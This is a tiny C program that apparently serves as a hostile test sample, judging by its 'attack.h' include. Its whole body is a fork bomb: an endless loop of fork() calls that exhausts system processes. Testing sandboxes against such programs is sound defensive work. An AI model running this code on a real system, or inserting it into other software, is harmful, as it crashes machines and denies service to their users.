// Doubles itself for ever.
// gets: none
#include "attack.h"

int main() {
  for (;;) fork();
}
